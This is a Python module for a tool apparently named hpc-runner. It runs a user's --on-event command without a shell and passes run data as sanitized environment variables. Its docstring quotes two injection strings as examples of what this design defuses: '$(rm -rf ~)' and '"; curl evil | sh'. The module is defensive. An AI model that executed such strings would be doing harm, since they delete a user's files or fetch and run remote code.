"""``--on-event COMMAND``: the user's own command, run once per run that reaches an end.

The command line is split once, with :func:`shlex.split`, when the option is read; each event
runs that same argument list with no shell, and the event's data - run name, phase, reason,
all of which come from files a training (or anyone who can write the runs directory) wrote -
travel only as environment variables (``HPC_RUNNER_RUN``, ``HPC_RUNNER_PHASE``,
``HPC_RUNNER_REASON``, ``HPC_RUNNER_RUN_DIR``). A run named ``$(rm -rf ~)`` or an exception
message holding ``"; curl evil | sh`` is therefore never parsed by a shell that hpc-runner
starts; a user who wants one writes ``sh -c '... "$HPC_RUNNER_RUN" ...'``, where a variable's
value is never parsed again. The values are made printable (:func:`terminal_safe`), as
everything else hpc-runner shows, so that a command that echoes them cannot be used to attack
the terminal (and a NUL, which an environment cannot hold, becomes ``\\u0000``).
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import threading
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from hpc_runner.errors import UsageError
from hpc_runner.stream.text import path_text, terminal_safe

#: The phases that are an event: the run ended, by itself or on request.
EVENT_PHASES = frozenset({"DONE", "CRASHED", "LOST", "STOPPED"})


@dataclass(frozen=True)
class RunEvent:
    """A run reached an end: its name (label), phase, reason and directory."""

    run: str
    phase: str
    reason: str | None
    run_dir: Path

    def environment(self) -> dict[str, str]:
        """The variables the command gets, every value printable and one line."""
        return {
            "HPC_RUNNER_RUN": terminal_safe(self.run, one_line=True),
            "HPC_RUNNER_PHASE": self.phase,
            "HPC_RUNNER_REASON": terminal_safe(self.reason or "", one_line=True),
            "HPC_RUNNER_RUN_DIR": terminal_safe(path_text(self.run_dir.absolute()), one_line=True),
        }


class EventCommand:
    """The user's ``--on-event`` command, split once, run per event without a shell.

    Parameters
    ----------
    command : str
        As given on the command line (``notify-send hpc-runner``).

    Raises
    ------
    UsageError
        The command is empty or its quotes do not close.
    """

    def __init__(self, command: str) -> None:
        try:
            argv = shlex.split(command)
        except ValueError as exc:
            raise UsageError(f"--on-event {command!r}: {exc}") from None
        if not argv:
            raise UsageError("--on-event: give a command, e.g. --on-event 'notify-send hpc-runner'")
        if shutil.which(argv[0]) is None:
            raise UsageError(f"--on-event: {argv[0]!r}: no such command (give a program on PATH)")
        self.argv: Sequence[str] = tuple(argv)
        self._lock = threading.Lock()
        self._running: list[subprocess.Popen[bytes]] = []

    def run(self, event: RunEvent) -> subprocess.Popen[bytes]:
        """Start the command for one event (returns at once).

        Its output goes nowhere (it would garble a full-screen UI); it runs in its own session,
        so that a key pressed in the TUI never reaches it.

        Raises
        ------
        OSError
            The command could not be started (removed since, not executable).
        """
        env = {**os.environ, **event.environment()}
        process = subprocess.Popen(
            list(self.argv),
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
            shell=False,
        )
        with self._lock:
            self._running = [p for p in self._running if p.poll() is None] + [process]
        return process

    def wait(self, timeout: float = 10.0) -> None:
        """Wait for the commands started (at exit: their events must not be lost)."""
        with self._lock:
            running, self._running = self._running, []
        for process in running:
            try:
                process.wait(timeout)
            except subprocess.TimeoutExpired:
                continue

    def describe(self) -> str:
        """The command as it will be run (for messages)."""
        return shlex.join(self.argv)
